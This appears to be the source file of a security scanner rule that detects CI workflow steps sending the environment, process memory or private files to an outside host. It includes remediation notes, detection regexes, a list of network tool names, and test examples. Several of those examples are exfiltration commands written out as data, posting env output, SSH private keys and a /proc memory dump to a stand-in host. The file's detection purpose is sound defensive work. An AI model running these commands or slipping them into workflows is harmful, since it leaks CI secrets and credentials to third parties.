# ruff: noqa: E501 (examples on the card read best as one line)
"""Step of a workflow that sends the environment or private files to another host.

## Why it matters
A runner's environment holds the tokens of the job; its disk holds the credentials of the checkout and the memory of the process that
knows all secrets. One line of shell in a step sends them away, and the log shows a request like any other.

## What to do
1. Remove the step, and revoke every secret that the job could read.
2. Find out which runs had it, and what they could publish.
3. Send what a report needs by name, never the whole environment.

## Known limits
Scripts of steps are read as text: a program that is fetched first, or that stands in another file, is not. Named single secrets that go to
the service they belong to are not reported.

## References
- https://attack.mitre.org/techniques/T1552/
- https://docs.github.com/actions/reference/security/secure-use
- https://cwe.mitre.org/data/definitions/200.html
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from sentinel.analysis.launch.scripts import sends_away
from sentinel.analysis.workflows.structure import place, steps
from sentinel.model.expression import expression
from sentinel.model.package import Workflow
from sentinel.model.rule import Confidence, Example, Item, Match, Severity, Workspace, rule

_HELD = expression(
    r"\b(?P<name>[A-Za-z_]\w{0,40})=[\"']?(?:\$\(|`)[^\n]{0,60}?(?<![\w/.-])(?:printenv|env)\b(?![\w=./-])(?:[^\n)`=]{0,80})(?:\)|`)"
)
"""A variable that holds the whole environment."""
_MEMORY = expression(r"/proc/(?:\$\{?\w+\}?|\*|[0-9]+|\$\([^)\n]{1,80}\))/(?:mem|maps|environ)\b")
_SENT = r"\b(?:curl|wget|nc|ncat)\b[^\n]{0,300}\$\{?"
_ASKED = expression(r"\b(?:curl|wget|nc|ncat)\s[^\n]{0,300}https?://(?!localhost|127\.0\.0\.1)|\bnc\s+\S+\s+\d+")
_WORDS = (
    b"curl", b"wget", b"invoke-", b"iwr", b"irm", b"nc ", b"ncat", b"netcat", b"scp", b"rsync", b"requests", b"httpx", b"axios", b"urlopen",
    b"fetch", b"http.request", b"https.request",
)  # fmt: skip
"""What can send; each in lower case."""
_PATH = ".github/workflows/a.yml"


def _run(*lines: str) -> str:
    body = "".join(f"          {line}\n" for line in lines)
    return f"on: push\njobs:\n  a:\n    steps:\n      - run: |\n{body}"


@rule(
    "supply-chain/environment-sent-out",
    on=Item.WORKFLOW,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=200,
    cvss="CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:N",
    owasp=("MCP01:2025", "MCP04:2025", "ASI04:2026"),
    keywords=_WORDS,
    bad=(
        Example(_run("env | curl -s -X POST --data-binary @- https://in.example.net/c"), (6,), _PATH),
        Example(_run("data=$(printenv | base64 -w0)", 'curl -s -d "$data" https://in.example.net/c'), (7,), _PATH),
        Example(_run("curl -F f=@$HOME/.ssh/id_rsa https://in.example.net/c"), (6,), _PATH),
        Example(_run("all=`env`", "make", "wget -q --post-data=$all https://in.example.net/c"), (8,), _PATH),
        Example(_run("sudo cat /proc/$PID/mem | strings > m.txt", "curl -T m.txt https://in.example.net/c"), (6,), _PATH),
    ),
    good=(
        Example(_run('timeout 1 bash -c "exec 3<>/dev/tcp/$host/6400" && echo ok'), path=_PATH),
        Example(_run("env | sort"), path=_PATH),
        Example(_run("curl -d \"$STATUS\" https://ci.example.org/status"), path=_PATH),
        Example(_run("name=$(env | grep NAME)", "echo $name"), path=_PATH),
        Example(_run('curl -H "Authorization: Bearer $TOKEN" https://api.example.org/v1'), path=_PATH),
        Example(_run("printenv > env.txt"), path=_PATH),
        Example(_run("env NODE_ENV=test npm test", "curl https://codecov.example.org/up -d @coverage.json"), path=_PATH),
        Example(_run("data=$(cat report.json)", 'curl -s -d "$data" https://ci.example.org/c'), path=_PATH),
        Example(_run("curl -s http://localhost:8080/health", "env"), path=_PATH),
        Example(_run("cat /proc/cpuinfo", "curl https://example.org/a"), path=_PATH),
        Example(_run("version=$(set -e; cat VERSION)", 'curl "https://example.org/$version"'), path=_PATH),
    ),
)  # fmt: skip
def check(workflow: Workflow, workspace: Workspace) -> Iterator[Match]:
    """Each step whose script does so."""
    for step in steps(workflow):
        script = step.text("run")
        words = _sent(script)
        if words:
            yield Match(
                place(workflow, (*step.path, "run"), words),
                "A step sends the environment, the memory of a process or private files to another host.",
                identity=f"{step.job}|{step.text('name')}",
            )


def _sent(script: str) -> str:
    """The words of the script that do it, as they stand there; empty when none do."""
    lowered = script.lower().encode()
    if not any(word in lowered for word in _WORDS):
        return ""
    deed = sends_away(script)
    if deed is not None and not script.startswith("/dev/", deed.start):  # a look whether a port answers
        return script[deed.start : deed.end].split("\n")[0]
    if _ASKED.search(script) is None:
        return ""
    memory = _MEMORY.search(script)
    if memory is not None:
        return memory[0]
    for held in _HELD.finditer(script):
        sent = re.compile(_SENT + held["name"] + r"\b").search(script, held.end())
        if sent is not None:
            return sent[0]
    return ""
